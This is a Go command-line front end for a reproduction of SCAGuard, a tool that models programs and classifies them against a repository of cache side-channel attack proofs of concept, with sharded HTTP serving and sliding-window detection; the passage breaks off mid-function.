	fmt.Fprintf(os.Stderr, "stress corpus: %d variants (seed %d) written to %s\n", repo.Len(), seed, path)
	return nil
}
