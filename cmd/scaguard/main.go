// Command scaguard is the command-line front end of the SCAGuard
// reproduction: it models programs, compares behavior models and
// classifies targets against the canonical attack repository.
//
// Usage:
//
//	scaguard list
//	scaguard model -target FR-IAIK [-disasm]
//	scaguard compare -a FR-IAIK -b PP-IAIK
//	scaguard classify -target ER-IAIK
//	scaguard classify -benign crypto/aes-ttable/7
//	scaguard classify -target FR-IAIK -obfuscate 3
//	scaguard classify -target ER-IAIK -fast -workers 4
//	scaguard classify -target FR-Mastik -fast -stats
//	scaguard classify -target FR-Mastik -metrics-addr :8080
//	scaguard classify -target FR-Mastik -timeout 2s
//	scaguard classify -target ER-IAIK -result-cache 64
//	scaguard classify -target ER-IAIK -shards 4
//	scaguard classify -target ER-IAIK -fast -index
//	scaguard shard-serve -shards 2 -shard-index 0 -addr :9101 -result-cache 256
//	scaguard classify -target ER-IAIK -shard-addrs 127.0.0.1:9101,127.0.0.1:9102
//	scaguard classify -target ER-IAIK -shard-addrs '127.0.0.1:9101|127.0.0.1:9111,127.0.0.1:9102|127.0.0.1:9112'
//	printf 'attack:FR-IAIK\nbenign:crypto/aes-ttable/7\n' | scaguard classify -stream
//	scaguard watch -target FR-IAIK
//	scaguard watch -target S-PP-Trippel -window 8192 -stride 4096 -fast -index
//
// The |-separated form names replicas: two shard-serve processes with
// the same -shards/-shard-index serve the same partition, and scans fail
// over between them (docs/ROBUSTNESS.md).
package main

import (
	"bufio"
	"context"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"syscall"
	"time"

	scaguard "repro"
)

func main() {
	if len(os.Args) < 2 {
		usage()
		os.Exit(2)
	}
	var err error
	switch os.Args[1] {
	case "list":
		err = cmdList()
	case "model":
		err = cmdModel(os.Args[2:])
	case "compare":
		err = cmdCompare(os.Args[2:])
	case "classify":
		err = cmdClassify(os.Args[2:])
	case "repo-save":
		err = cmdRepoSave(os.Args[2:])
	case "shard-serve":
		err = cmdShardServe(os.Args[2:])
	case "serve":
		err = cmdServe(os.Args[2:])
	case "watch":
		err = cmdWatch(os.Args[2:])
	default:
		usage()
		os.Exit(2)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "scaguard:", err)
		os.Exit(1)
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, `usage: scaguard <command> [flags]

commands:
  list         list canonical attack PoCs and benign templates
  model        build and summarize the behavior model of a program
  compare      similarity score between two programs' models
  classify     classify a target against the default repository
  repo-save    build the default repository and write it as JSON
  shard-serve  host one shard of the repository over HTTP for
               classify -shard-addrs clients (see docs/SHARDING.md)
  serve        long-lived detection service: classify requests from
               many concurrent clients over HTTP/JSON, with admission
               control, hot reload and graceful drain
               (see docs/SERVING.md)
  watch        online sliding-window detection: run the target and
               stream per-window verdicts as it executes — an
               in-flight attack is flagged mid-trace
               (see docs/WINDOWING.md)`)
}

func cmdList() error {
	fmt.Println("Attack PoCs (Table II):")
	for _, n := range scaguard.AttackNames() {
		poc := scaguard.MustAttack(n)
		fmt.Printf("  %-14s family=%-5s insns=%d\n", n, poc.Family, len(poc.Program.Insns))
	}
	fmt.Println("\nExtension PoCs (beyond the paper):")
	for _, n := range scaguard.ExtensionNames() {
		poc := scaguard.MustAttack(n)
		fmt.Printf("  %-14s family=%-5s insns=%d\n", n, poc.Family, len(poc.Program.Insns))
	}
	fmt.Println("\nBenign templates (Table III):")
	for _, kind := range scaguard.BenignKinds() {
		fmt.Printf("  %s: %s\n", kind, strings.Join(scaguard.BenignTemplates(kind), ", "))
	}
	return nil
}

// flagErrors accumulates numeric-knob validation failures after a flag
// set parses, so one bad invocation reports every problem at once. The
// flag package only rejects syntactically unparsable values; a
// semantically nonsensical one (-workers -4, -index-clusters -1) would
// otherwise flow into the engine and fail far from the flag that
// caused it. Knobs where a negative value is meaningful — the
// -mutate/-obfuscate seed sentinels, -breaker-threshold's "negative
// disables breaking" — are deliberately not checked.
type flagErrors struct{ problems []string }

func (fe *flagErrors) add(format string, args ...any) {
	fe.problems = append(fe.problems, fmt.Sprintf(format, args...))
}

func (fe *flagErrors) nonNegative(name string, v int) {
	if v < 0 {
		fe.add("-%s must be >= 0, got %d", name, v)
	}
}

func (fe *flagErrors) atLeast(name string, v, min int) {
	if v < min {
		fe.add("-%s must be >= %d, got %d", name, min, v)
	}
}

func (fe *flagErrors) nonNegativeDuration(name string, v time.Duration) {
	if v < 0 {
		fe.add("-%s must be >= 0, got %s", name, v)
	}
}

func (fe *flagErrors) nonNegativeFloat(name string, v float64) {
	if v < 0 {
		fe.add("-%s must be >= 0, got %g", name, v)
	}
}

// err collapses the accumulated problems into one error, nil when the
// flags were clean.
func (fe *flagErrors) err() error {
	if len(fe.problems) == 0 {
		return nil
	}
	return fmt.Errorf("invalid flag value(s): %s", strings.Join(fe.problems, "; "))
}

// targetFlags holds the -target/-benign/-file/-mutate/-obfuscate flag
// values; resolve turns them into a program plus its victim after the
// flag set has been parsed.
type targetFlags struct {
	target, benignSpec, file  *string
	mutateSeed, obfuscateSeed *int64
	disasm                    *bool
}

func registerTargetFlags(fs *flag.FlagSet) *targetFlags {
	return &targetFlags{
		target:        fs.String("target", "", "canonical attack PoC name"),
		benignSpec:    fs.String("benign", "", "benign program kind/template/seed"),
		file:          fs.String("file", "", "assemble a textual program from this file"),
		mutateSeed:    fs.Int64("mutate", -1, "apply light mutation with this seed"),
		obfuscateSeed: fs.Int64("obfuscate", -1, "apply polymorphic obfuscation with this seed"),
		disasm:        fs.Bool("disasm", false, "print the target's disassembly"),
	}
}

func (tf *targetFlags) resolve() (*scaguard.Program, *scaguard.Program, error) {
	var prog, victim *scaguard.Program
	switch {
	case *tf.file != "":
		p, v, err := loadSpec("file:" + *tf.file)
		if err != nil {
			return nil, nil, err
		}
		prog, victim = p, v
	case *tf.target != "":
		poc, err := scaguard.Attack(*tf.target)
		if err != nil {
			return nil, nil, err
		}
		prog, victim = poc.Program, poc.Victim
	case *tf.benignSpec != "":
		p, _, err := loadSpec("benign:" + *tf.benignSpec)
		if err != nil {
			return nil, nil, err
		}
		prog = p
	default:
		return nil, nil, fmt.Errorf("one of -target, -benign or -file is required")
	}
	var err error
	if *tf.mutateSeed >= 0 {
		prog, err = scaguard.MutateVariant(prog, *tf.mutateSeed)
		if err != nil {
			return nil, nil, err
		}
	}
	if *tf.obfuscateSeed >= 0 {
		prog, err = scaguard.ObfuscateVariant(prog, *tf.obfuscateSeed)
		if err != nil {
			return nil, nil, err
		}
	}
	if *tf.disasm {
		fmt.Println(prog.Disassemble())
	}
	return prog, victim, nil
}

// loadTarget resolves -target/-benign/-mutate/-obfuscate flags into a
// program plus its victim.
func loadTarget(fs *flag.FlagSet, args []string) (*scaguard.Program, *scaguard.Program, error) {
	tf := registerTargetFlags(fs)
	if err := fs.Parse(args); err != nil {
		return nil, nil, err
	}
	return tf.resolve()
}

// loadSpec resolves one streaming target spec — the line format of
// `classify -stream` — into a program plus its victim:
//
//	attack:FR-IAIK              canonical PoC by name
//	benign:crypto/aes-ttable/7  generated benign program
//	file:path/to/prog.s         assembled from a file
func loadSpec(spec string) (*scaguard.Program, *scaguard.Program, error) {
	kind, rest, ok := strings.Cut(spec, ":")
	if !ok {
		return nil, nil, fmt.Errorf("target spec %q wants kind:value (attack:, benign:, file:)", spec)
	}
	switch kind {
	case "attack":
		poc, err := scaguard.Attack(rest)
		if err != nil {
			return nil, nil, err
		}
		return poc.Program, poc.Victim, nil
	case "benign":
		parts := strings.Split(rest, "/")
		if len(parts) != 3 {
			return nil, nil, fmt.Errorf("benign spec wants kind/template/seed, got %q", rest)
		}
		seed, err := strconv.ParseInt(parts[2], 10, 64)
		if err != nil {
			return nil, nil, fmt.Errorf("bad seed in %q: %v", rest, err)
		}
		prog, err := scaguard.GenerateBenign(parts[0], parts[1], seed)
		return prog, nil, err
	case "file":
		src, err := os.ReadFile(rest)
		if err != nil {
			return nil, nil, err
		}
		prog, err := scaguard.ParseProgram(rest, string(src))
		return prog, nil, err
	}
	return nil, nil, fmt.Errorf("unknown target spec kind %q (want attack:, benign:, file:)", kind)
}

func cmdModel(args []string) error {
	fs := flag.NewFlagSet("model", flag.ContinueOnError)
	dot := fs.Bool("dot", false, "print the CFG as Graphviz DOT with identified attack-relevant blocks highlighted (Fig. 1/Fig. 4 style)")
	dotGraph := fs.Bool("dot-attack-graph", false, "print the attack-relevant graph as Graphviz DOT")
	prog, victim, err := loadTarget(fs, args)
	if err != nil {
		return err
	}
	m, err := scaguard.BuildModel(prog, victim)
	if err != nil {
		return err
	}
	if *dot {
		highlight := make(map[uint64]bool)
		for _, l := range m.IdentifiedBBs() {
			highlight[l] = true
		}
		fmt.Print(m.CFG.DOT(highlight))
		return nil
	}
	if *dotGraph {
		fmt.Print(m.CFG.GraphDOT(m.AttackGraph, prog.Name+"-attack-graph"))
		return nil
	}
	fmt.Printf("program:            %s\n", m.Name)
	fmt.Printf("cfg blocks:         %d\n", m.CFG.NumBlocks())
	fmt.Printf("potential blocks:   %d\n", len(m.PotentialBBs))
	fmt.Printf("relevant blocks:    %d\n", len(m.RelevantBBs))
	fmt.Printf("identified blocks:  %d\n", len(m.IdentifiedBBs()))
	fmt.Printf("cst-bbs length:     %d\n", m.BBS.Len())
	fmt.Printf("trace cycles:       %d\n", m.TraceCycles)
	fmt.Println("cst-bbs:")
	for i, c := range m.BBS.Seq {
		fmt.Printf("  [%2d] block 0x%x  delta=%.3f  hpc=%d\n       %s\n",
			i, c.Leader, c.Delta(), c.HPCValue, strings.Join(c.NormInsns, "; "))
	}
	return nil
}

func cmdCompare(args []string) error {
	fs := flag.NewFlagSet("compare", flag.ContinueOnError)
	a := fs.String("a", "", "first PoC name")
	b := fs.String("b", "", "second PoC name")
	explain := fs.Bool("explain", false, "print the block alignment")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *a == "" || *b == "" {
		return fmt.Errorf("compare needs -a and -b")
	}
	pa, err := scaguard.Attack(*a)
	if err != nil {
		return err
	}
	pb, err := scaguard.Attack(*b)
	if err != nil {
		return err
	}
	ma, err := scaguard.BuildModel(pa.Program, pa.Victim)
	if err != nil {
		return err
	}
	mb, err := scaguard.BuildModel(pb.Program, pb.Victim)
	if err != nil {
		return err
	}
	fmt.Printf("similarity(%s, %s) = %.2f%%\n", *a, *b, scaguard.Score(ma.BBS, mb.BBS)*100)
	if *explain {
		_, pairs := scaguard.Align(ma.BBS, mb.BBS)
		fmt.Printf("%-24s %-24s %s\n", *a, *b, "cost")
		for _, pr := range pairs {
			ca, cb := ma.BBS.Seq[pr.I], mb.BBS.Seq[pr.J]
			fmt.Printf("0x%-8x d=%.2f         0x%-8x d=%.2f       %.3f\n",
				ca.Leader, ca.Delta(), cb.Leader, cb.Delta(), pr.Cost)
		}
	}
	return nil
}

func cmdRepoSave(args []string) error {
	fs := flag.NewFlagSet("repo-save", flag.ContinueOnError)
	out := fs.String("out", "scaguard-repo.json", "output path")
	if err := fs.Parse(args); err != nil {
		return err
	}
	det, err := scaguard.NewDetector()
	if err != nil {
		return err
	}
	f, err := os.Create(*out)
	if err != nil {
		return err
	}
	defer f.Close()
	if err := scaguard.SaveRepository(det.Repo, f); err != nil {
		return err
	}
	fmt.Printf("repository (%d models) written to %s\n", det.Repo.Len(), *out)
	return nil
}

func cmdClassify(args []string) error {
	fs := flag.NewFlagSet("classify", flag.ContinueOnError)
	repoPath := fs.String("repo", "", "classify against a saved repository instead of the default")
	workers := fs.Int("workers", 0, "scan worker-pool size (0 = GOMAXPROCS)")
	fast := fs.Bool("fast", false, "early-abandoning scan: the verdict and best match stay exact, other scores may be upper bounds (marked ~)")
	cascade := fs.Bool("cascade", false, "with -fast: order candidates by a cheap O(1) lower bound and escalate through the tier-2/tier-3 bounds lazily (same exact verdict, fewer full comparisons); no effect without -fast")
	indexed := fs.Bool("index", false, "with -fast: scan through a medoid-prototype repository index — clusters whose certified lower bounds cannot beat the running best are skipped wholesale (same exact verdict and best match; see docs/INDEXING.md); no effect without -fast")
	indexClusters := fs.Int("index-clusters", 0, "with -index: number of index clusters (0 = ~sqrt(N) default)")
	indexMax := fs.Int("index-max-clusters", 0, "with -index: approximate mode — fully score at most this many clusters per scan and estimate the rest (the verdict may miss matches hiding in unscored clusters; 0 = exact)")
	stats := fs.Bool("stats", false, "print a telemetry report after the run (pruning rate, DistCache hit rate, stage latencies)")
	metricsAddr := fs.String("metrics-addr", "", "serve the live telemetry snapshot over HTTP on this address (e.g. :8080); JSON by default, Prometheus text via Accept or ?format=prometheus; blocks after the run until interrupted")
	timeout := fs.Duration("timeout", 0, "per-classification deadline covering modeling and scanning (e.g. 500ms); 0 = none")
	streamMode := fs.Bool("stream", false, "read target specs (attack:NAME, benign:kind/template/seed, file:PATH) line by line from stdin and classify them as a fault-isolated stream")
	resultCache := fs.Int("result-cache", 0, "memoize whole scan outcomes for repeated targets in a bounded LRU of this many entries (0 = off); invalidated automatically when the repository grows")
	shards := fs.Int("shards", 0, "partition the repository across this many in-process scan shards (0/1 = single engine)")
	shardAddrs := fs.String("shard-addrs", "", "comma-separated shard-serve addresses; the repository is scanned across them instead of in process. Each address may name |-separated replicas serving the same partition (\"a:9101|b:9101\"): scans fail over between them")
	shardPolicy := fs.String("shard-policy", "hash", "shard partition policy: hash (rendezvous) or rr (round-robin); must match the servers'")
	shardAttemptTimeout := fs.Duration("shard-attempt-timeout", 0, "per-replica attempt budget within a replicated shard; a slower replica fails over to the next one (0 = none)")
	shardProbe := fs.Duration("shard-probe", 0, "background health-probe interval for replicated shard backends; quarantined replicas are re-admitted within one interval of recovering (0 = off)")
	breakerThreshold := fs.Int("breaker-threshold", 0, "consecutive failures that open a shard replica's circuit breaker (0 = default 3, negative = disable breaking)")
	tf := registerTargetFlags(fs)
	if err := fs.Parse(args); err != nil {
		return err
	}
	var fe flagErrors
	fe.nonNegative("workers", *workers)
	fe.nonNegative("index-clusters", *indexClusters)
	fe.nonNegative("index-max-clusters", *indexMax)
	fe.nonNegative("result-cache", *resultCache)
	fe.nonNegative("shards", *shards)
	fe.nonNegativeDuration("timeout", *timeout)
	fe.nonNegativeDuration("shard-attempt-timeout", *shardAttemptTimeout)
	fe.nonNegativeDuration("shard-probe", *shardProbe)
	if err := fe.err(); err != nil {
		return err
	}
	det, err := loadDetector(*repoPath)
	if err != nil {
		return err
	}
	det.Scan = scaguard.ScanConfig{Workers: *workers, Prune: *fast, Cascade: *cascade, Index: *indexed, IndexClusters: *indexClusters, IndexMaxClusters: *indexMax}
	det.Timeout = *timeout
	det.ResultCache = *resultCache
	policy, err := scaguard.ParseShardPolicy(*shardPolicy)
	if err != nil {
		return err
	}
	det.Shards = *shards
	det.ShardPolicy = policy
	det.ShardAttemptTimeout = *shardAttemptTimeout
	det.ShardProbeInterval = *shardProbe
	det.ShardBreaker = scaguard.BreakerSettings{Threshold: *breakerThreshold}
	if *shardAddrs != "" {
		det.ShardAddrs = strings.Split(*shardAddrs, ",")
		defer det.Close()
		// Handshake before classifying: every partition needs at least
		// one healthy replica holding the slice the router assigns it,
		// else partition drift would silently misclassify. Dead replicas
		// behind live ones only warn — failover covers them.
		unhealthy, err := scaguard.CheckShardFleet(context.Background(), det.Repo, det.ShardAddrs, policy)
		if err != nil {
			return err
		}
		for _, a := range unhealthy {
			fmt.Fprintf(os.Stderr, "warning: shard replica %s unhealthy; failover will cover it\n", a)
		}
	}
	var tel *scaguard.Telemetry
	if *stats || *metricsAddr != "" {
		tel = scaguard.NewTelemetry()
		det.Telemetry = tel
	}
	var metricsURL string
	if *metricsAddr != "" {
		bound, shutdown, err := scaguard.ServeTelemetry(*metricsAddr, tel)
		if err != nil {
			return err
		}
		defer shutdown()
		metricsURL = "http://" + bound + "/metrics"
		fmt.Fprintf(os.Stderr, "serving telemetry on %s\n", metricsURL)
	}

	if *streamMode {
		if err := runStream(det, *workers); err != nil {
			return err
		}
	} else {
		prog, victim, err := tf.resolve()
		if err != nil {
			return err
		}
		res, m, err := det.ClassifyCtx(context.Background(), prog, victim)
		if err != nil {
			return err
		}
		fmt.Printf("target:    %s (model length %d)\n", prog.Name, m.BBS.Len())
		fmt.Printf("verdict:   %s\n", res.Predicted)
		for _, match := range res.Matches {
			marker := " "
			if match.Score >= det.Threshold {
				marker = "*"
			}
			bound := " "
			if match.Pruned {
				bound = "~" // early-abandoned: score is an upper bound
			}
			fmt.Printf("  %s %-14s %-5s %s%6.2f%%\n", marker, match.Name, match.Family, bound, match.Score*100)
		}
	}

	if *stats {
		tel.Flush().WriteReport(os.Stdout)
	}
	if *metricsAddr != "" {
		fmt.Fprintf(os.Stderr, "telemetry still served on %s — interrupt to exit\n", metricsURL)
		ch := make(chan os.Signal, 1)
		signal.Notify(ch, os.Interrupt, syscall.SIGTERM)
		<-ch
	}
	return nil
}

// loadDetector builds the detector from a saved repository when path is
// set, else from the default canonical-PoC repository.
func loadDetector(path string) (*scaguard.Detector, error) {
	if path == "" {
		return scaguard.NewDetector()
	}
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	repo, err := scaguard.LoadRepository(f)
	if err != nil {
		return nil, err
	}
	return scaguard.NewDetectorFromRepository(repo), nil
}

// cmdShardServe hosts one shard of the repository over HTTP: the
// process derives the same partition every classify client derives, so
// the only coordination needed is agreeing on -shards/-policy. Blocks
// until interrupted.
func cmdShardServe(args []string) error {
	fs := flag.NewFlagSet("shard-serve", flag.ContinueOnError)
	repoPath := fs.String("repo", "", "serve a shard of a saved repository instead of the default")
	shards := fs.Int("shards", 1, "total number of shards in the deployment")
	shardIndex := fs.Int("shard-index", 0, "which shard this process serves (0-based)")
	policyName := fs.String("policy", "hash", "shard partition policy: hash (rendezvous) or rr (round-robin)")
	addr := fs.String("addr", ":9101", "listen address (host:port; port 0 picks a free port)")
	workers := fs.Int("workers", 0, "scan worker-pool size inside this shard (0 = GOMAXPROCS)")
	resultCache := fs.Int("result-cache", 0, "memoize whole /scan replies for repeated targets in a bounded LRU of this many entries (0 = off)")
	warmIndex := fs.Bool("index", false, "pre-build the medoid-prototype repository index over this shard's slice at startup, so the first indexed /scan skips the O(n²) construction (clients opt into indexed scans per request; see docs/INDEXING.md)")
	indexClusters := fs.Int("index-clusters", 0, "with -index: cluster count of the pre-built index (0 = ~sqrt(N) default)")
	if err := fs.Parse(args); err != nil {
		return err
	}
	var fe flagErrors
	fe.atLeast("shards", *shards, 1)
	fe.nonNegative("shard-index", *shardIndex)
	if *shards >= 1 && *shardIndex >= *shards {
		fe.add("-shard-index %d out of range for %d shards", *shardIndex, *shards)
	}
	fe.nonNegative("workers", *workers)
	fe.nonNegative("result-cache", *resultCache)
	fe.nonNegative("index-clusters", *indexClusters)
	if err := fe.err(); err != nil {
		return err
	}
	policy, err := scaguard.ParseShardPolicy(*policyName)
	if err != nil {
		return err
	}
	det, err := loadDetector(*repoPath)
	if err != nil {
		return err
	}
	bound, shutdown, err := scaguard.ServeShard(det.Repo, *shards, *shardIndex, policy, *addr,
		scaguard.ShardServerConfig{Workers: *workers, ResultCache: *resultCache, WarmIndex: *warmIndex, IndexClusters: *indexClusters})
	if err != nil {
		return err
	}
	fmt.Fprintf(os.Stderr, "shard %d/%d (%s policy) serving on %s — interrupt to exit\n", *shardIndex, *shards, policy, bound)
	ch := make(chan os.Signal, 1)
	signal.Notify(ch, os.Interrupt, syscall.SIGTERM)
	<-ch
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	return shutdown(ctx)
}

// cmdServe runs the detection-as-a-service front end: a long-lived
// HTTP/JSON server classifying targets for many concurrent clients,
// optionally fronting a shard-serve fleet. It drains gracefully on
// SIGTERM/SIGINT: intake stops, in-flight requests and streams flush,
// then the process exits. See docs/SERVING.md.
func cmdServe(args []string) error {
	fs := flag.NewFlagSet("serve", flag.ContinueOnError)
	addr := fs.String("addr", ":9090", "listen address (host:port; port 0 picks a free port)")
	repoPath := fs.String("repo", "", "serve a saved repository instead of the default; also the default source for POST /reload")
	workers := fs.Int("workers", 0, "scan worker-pool size (0 = GOMAXPROCS)")
	fast := fs.Bool("fast", false, "early-abandoning scans: verdicts and best matches stay exact, other scores may be upper bounds")
	cascade := fs.Bool("cascade", false, "with -fast: early-abandoning scans stay exact while skipping hopeless candidates; no effect without -fast")
	indexed := fs.Bool("index", false, "with -fast: scan through a medoid-prototype repository index — clusters whose certified lower bounds cannot beat the running best are skipped wholesale (same exact verdict and best match; see docs/INDEXING.md); no effect without -fast")
	indexClusters := fs.Int("index-clusters", 0, "with -index: number of index clusters (0 = ~sqrt(N) default)")
	indexMax := fs.Int("index-max-clusters", 0, "with -index: approximate mode — fully score at most this many clusters per scan and estimate the rest (the verdict may miss matches hiding in unscored clusters; 0 = exact)")
	resultCache := fs.Int("result-cache", 0, "memoize whole scan outcomes in a bounded LRU of this many entries (0 = off); invalidated by /reload and repository growth")
	shards := fs.Int("shards", 0, "partition the repository across this many in-process scan shards (0/1 = single engine)")
	shardAddrs := fs.String("shard-addrs", "", "comma-separated shard-serve addresses; the repository is scanned across them. Each address may name |-separated replicas serving the same partition (\"a:9101|b:9101\"): scans fail over between them")
	shardPolicy := fs.String("shard-policy", "hash", "shard partition policy: hash (rendezvous) or rr (round-robin); must match the servers'")
	shardTimeout := fs.Duration("shard-timeout", 0, "per-shard share of one scan; a slower shard fails that scan and the verdict degrades to partial (0 = none)")
	shardAttemptTimeout := fs.Duration("shard-attempt-timeout", 0, "per-replica attempt budget within a replicated shard; a slower replica fails over to the next one (0 = none)")
	shardProbe := fs.Duration("shard-probe", 5*time.Second, "background health-probe interval for replicated shard backends; quarantined replicas are re-admitted within one interval of recovering (0 = off)")
	breakerThreshold := fs.Int("breaker-threshold", 0, "consecutive failures that open a shard replica's circuit breaker (0 = default 3, negative = disable breaking)")
	timeout := fs.Duration("timeout", 0, "per-target deadline covering modeling and scanning (0 = none)")
	maxInflight := fs.Int("max-inflight", 0, "global cap on admitted in-flight requests; excess requests are shed with 429 (0 = 256)")
	rate := fs.Float64("rate", 0, "per-API-key sustained admission rate in targets/sec (0 = unlimited)")
	burst := fs.Int("burst", 0, "per-API-key token-bucket burst (0 = 2*rate, min 1)")
	hedge := fs.Duration("hedge", 0, "launch a parallel second attempt for a unary classification still unresolved after this long (0 = off)")
	retries := fs.Int("retries", 0, "re-run a failed classification up to this many times on transient errors")
	retryBackoff := fs.Duration("retry-backoff", 50*time.Millisecond, "delay before the first retry; doubles per retry")
	streamWorkers := fs.Int("stream-workers", 0, "modeling workers per streaming connection/batch (0 = GOMAXPROCS)")
	queue := fs.Int("queue", 0, "bounded queue size per streaming connection/batch (0 = stream-workers)")
	drainTimeout := fs.Duration("drain-timeout", 15*time.Second, "how long shutdown waits for in-flight requests before giving up")
	if err := fs.Parse(args); err != nil {
		return err
	}
	var fe flagErrors
	fe.nonNegative("workers", *workers)
	fe.nonNegative("index-clusters", *indexClusters)
	fe.nonNegative("index-max-clusters", *indexMax)
	fe.nonNegative("result-cache", *resultCache)
	fe.nonNegative("shards", *shards)
	fe.nonNegative("max-inflight", *maxInflight)
	fe.nonNegative("burst", *burst)
	fe.nonNegative("retries", *retries)
	fe.nonNegative("stream-workers", *streamWorkers)
	fe.nonNegative("queue", *queue)
	fe.nonNegativeFloat("rate", *rate)
	fe.nonNegativeDuration("timeout", *timeout)
	fe.nonNegativeDuration("shard-timeout", *shardTimeout)
	fe.nonNegativeDuration("shard-attempt-timeout", *shardAttemptTimeout)
	fe.nonNegativeDuration("shard-probe", *shardProbe)
	fe.nonNegativeDuration("hedge", *hedge)
	fe.nonNegativeDuration("retry-backoff", *retryBackoff)
	fe.nonNegativeDuration("drain-timeout", *drainTimeout)
	if err := fe.err(); err != nil {
		return err
	}
	det, err := loadDetector(*repoPath)
	if err != nil {
		return err
	}
	det.Scan = scaguard.ScanConfig{Workers: *workers, Prune: *fast, Cascade: *cascade, Index: *indexed, IndexClusters: *indexClusters, IndexMaxClusters: *indexMax}
	det.Timeout = *timeout
	det.ResultCache = *resultCache
	policy, err := scaguard.ParseShardPolicy(*shardPolicy)
	if err != nil {
		return err
	}
	det.Shards = *shards
	det.ShardPolicy = policy
	det.ShardTimeout = *shardTimeout
	det.ShardAttemptTimeout = *shardAttemptTimeout
	det.ShardProbeInterval = *shardProbe
	det.ShardBreaker = scaguard.BreakerSettings{Threshold: *breakerThreshold}
	det.ShardRetry = scaguard.RetryPolicy{Attempts: *retries, Backoff: *retryBackoff, Jitter: true}
	if *shardAddrs != "" {
		det.ShardAddrs = strings.Split(*shardAddrs, ",")
		defer det.Close()
		unhealthy, err := scaguard.CheckShardFleet(context.Background(), det.Repo, det.ShardAddrs, policy)
		if err != nil {
			return err
		}
		for _, a := range unhealthy {
			fmt.Fprintf(os.Stderr, "warning: shard replica %s unhealthy; failover will cover it\n", a)
		}
	}
	tel := scaguard.NewTelemetry()
	det.Telemetry = tel

	srv := scaguard.NewDetectionServer(scaguard.ServeConfig{
		Detector:      det,
		MaxConcurrent: *maxInflight,
		RatePerKey:    *rate,
		BurstPerKey:   *burst,
		Stream: scaguard.StreamConfig{
			ModelWorkers:  *streamWorkers,
			Queue:         *queue,
			TargetTimeout: *timeout,
		},
		Hedge:     *hedge,
		Retry:     scaguard.RetryPolicy{Attempts: *retries, Backoff: *retryBackoff, Jitter: true},
		Telemetry: tel,
		Reload: func(path string) (*scaguard.Repository, error) {
			if path == "" {
				path = *repoPath
			}
			if path == "" {
				// No saved repository: rebuild the canonical default.
				d, err := scaguard.NewDetector()
				if err != nil {
					return nil, err
				}
				return d.Repo, nil
			}
			f, err := os.Open(path)
			if err != nil {
				return nil, err
			}
			defer f.Close()
			return scaguard.LoadRepository(f)
		},
	})
	bound, err := srv.Serve(*addr)
	if err != nil {
		return err
	}
	fmt.Fprintf(os.Stderr, "scaguard serve: detection service on http://%s (endpoints: /v1/classify, /v1/classify/stream, /reload, /healthz, /metrics) — interrupt to drain and exit\n", bound)
	ch := make(chan os.Signal, 1)
	signal.Notify(ch, os.Interrupt, syscall.SIGTERM)
	<-ch
	fmt.Fprintln(os.Stderr, "scaguard serve: draining")
	ctx, cancel := context.WithTimeout(context.Background(), *drainTimeout)
	defer cancel()
	if err := srv.Shutdown(ctx); err != nil {
		return fmt.Errorf("drain: %w", err)
	}
	fmt.Fprintln(os.Stderr, "scaguard serve: drained")
	return nil
}

// cmdWatch runs the online sliding-window detector over a live run of
// the target: the program executes on a fresh machine with event
// recording on, and one verdict line prints per time window as the
// replay crosses window boundaries — so an in-flight attack is flagged
// mid-trace, before the run ends. The final summary reports the
// aggregate verdict and the latency-to-detection metric. See
// docs/WINDOWING.md.
func cmdWatch(args []string) error {
	fs := flag.NewFlagSet("watch", flag.ContinueOnError)
	repoPath := fs.String("repo", "", "classify against a saved repository instead of the default")
	windowSize := fs.Int("window", 0, "window width in cycles (0 = 8192 default)")
	stride := fs.Int("stride", 0, "cycle distance between window starts (0 = window/2 under the default width, else = window); must not exceed -window")
	quietGap := fs.Int("quiet-gap", 0, "collapse runs of empty windows spanning at least this many cycles into one verdict (0 = one verdict per empty window)")
	workers := fs.Int("workers", 0, "scan worker-pool size for per-window scans (0 = GOMAXPROCS)")
	fast := fs.Bool("fast", false, "early-abandoning per-window scans: verdicts and best matches stay exact, other scores may be upper bounds")
	cascade := fs.Bool("cascade", false, "with -fast: lower-bound cascade ordering per window scan; no effect without -fast")
	indexed := fs.Bool("index", false, "with -fast: per-window scans go through the medoid-prototype repository index; no effect without -fast")
	indexClusters := fs.Int("index-clusters", 0, "with -index: number of index clusters (0 = ~sqrt(N) default)")
	indexMax := fs.Int("index-max-clusters", 0, "with -index: approximate mode — fully score at most this many clusters per window scan (0 = exact)")
	timeout := fs.Duration("timeout", 0, "per-window deadline covering modeling and scanning (0 = none)")
	stats := fs.Bool("stats", false, "print a telemetry report after the run (window counters, modeling-stage latencies)")
	hitsOnly := fs.Bool("hits-only", false, "print only malicious window verdicts (quiet and benign windows still count in the summary)")
	tf := registerTargetFlags(fs)
	if err := fs.Parse(args); err != nil {
		return err
	}
	var fe flagErrors
	fe.nonNegative("window", *windowSize)
	fe.nonNegative("stride", *stride)
	fe.nonNegative("quiet-gap", *quietGap)
	fe.nonNegative("workers", *workers)
	fe.nonNegative("index-clusters", *indexClusters)
	fe.nonNegative("index-max-clusters", *indexMax)
	fe.nonNegativeDuration("timeout", *timeout)
	if err := fe.err(); err != nil {
		return err
	}
	prog, victim, err := tf.resolve()
	if err != nil {
		return err
	}
	det, err := loadDetector(*repoPath)
	if err != nil {
		return err
	}
	det.Scan = scaguard.ScanConfig{Workers: *workers, Prune: *fast, Cascade: *cascade, Index: *indexed, IndexClusters: *indexClusters, IndexMaxClusters: *indexMax}
	det.Timeout = *timeout
	var tel *scaguard.Telemetry
	if *stats {
		tel = scaguard.NewTelemetry()
		det.Telemetry = tel
	}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	flagged := false
	emit := func(v scaguard.WindowVerdict) {
		switch {
		case v.Err != nil:
			fmt.Printf("window %3d [%8d,%8d) ERROR %v\n", v.Index, v.Start, v.End, v.Err)
		case v.Reason != "":
			if !*hitsOnly {
				fmt.Printf("window %3d [%8d,%8d) events=%-5d benign (%s)\n", v.Index, v.Start, v.End, v.Events, v.Reason)
			}
		default:
			mark := " "
			if v.Malicious() {
				mark = "*"
			}
			if !*hitsOnly || v.Malicious() {
				fmt.Printf("window %3d [%8d,%8d) events=%-5d %s %-7s best=%s %.2f%%\n",
